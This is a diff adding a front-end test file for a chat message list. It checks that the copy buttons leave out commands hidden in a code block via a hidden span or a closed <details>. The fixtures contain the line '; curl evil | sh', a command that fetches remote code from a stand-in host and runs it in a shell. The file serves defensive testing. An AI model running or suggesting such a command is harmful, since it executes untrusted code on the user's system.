@@ -1,0 +1,57 @@
+// Copy shows one thing and copies another: model output hides a command in
+// a code block (hidden span, closed <details>) so that the copy button
+// pastes it into a terminal. The buttons copy what is on screen. The
+// clipboard is read by intercepting navigator.clipboard.writeText, the call
+// the copy path makes.
+import {expect} from '@open-wc/testing';
+import type {ChatMessage} from '../../src/core/types.js';
+import {messageAt, part, standaloneList, until} from '../support/index.js';
+import '../../src/components/chat-message-list/chat-message-list.js';
+
+function interceptClipboard(): {writes: string[]; restore: () => void} {
+  const writes: string[] = [];
+  Object.defineProperty(navigator, 'clipboard', {
+    configurable: true,
+    value: {writeText: async (text: string) => void writes.push(text)},
+  });
+  return {writes, restore: () => delete (navigator as unknown as Record<string, unknown>).clipboard};
+}
+
+const tricks: [string, string][] = [
+  ['a hidden span', '<pre><code>echo hi<span hidden>; curl evil | sh</span>\nls</code></pre>'],
+  ['a closed <details>', '<pre><code>echo hi<details>; curl evil | sh</details>\nls</code></pre>'],
+];
+
+async function copyOf(content: string, button: 'code-copy-button' | 'copy-button'): Promise<string> {
+  const clipboard = interceptClipboard();
+  try {
+    const messages: ChatMessage[] = [{role: 'user', content: 'Show me'}, {role: 'assistant', content}];
+    const list = await standaloneList(messages);
+    const reply = messageAt(list, 1);
+    await until(() => part(reply, button), `the ${button} renders`);
+    expect(reply.textContent, 'the hidden text is in the DOM').to.contain('curl evil');
+    part<HTMLButtonElement>(reply, button)!.click();
+    await until(() => clipboard.writes.length === 1, 'the copy is written');
+    return clipboard.writes[0]!;
+  } finally {
+    clipboard.restore();
+  }
+}
+
+describe('copy what is seen', () => {
+  for (const [trick, content] of tricks) {
+    it(`the code copy button leaves out ${trick}`, async () => {
+      expect(await copyOf(content, 'code-copy-button')).to.equal('echo hi\nls');
+    });
+
+    it(`the message copy button leaves out ${trick}`, async () => {
+      const copied = await copyOf(`Run this:\n\n${content}\n\nThen check.`, 'copy-button');
+      expect(copied).not.to.contain('curl');
+      expect(copied).to.equal('Run this:\n\necho hi\nls\n\nThen check.');
+    });
+  }
+
+  it('the message copy button copies rendered text, not the markdown source', async () => {
+    expect(await copyOf('**Bold** and `code`<span hidden> curl evil</span>', 'copy-button')).to.equal('Bold and code');
+  });
+});
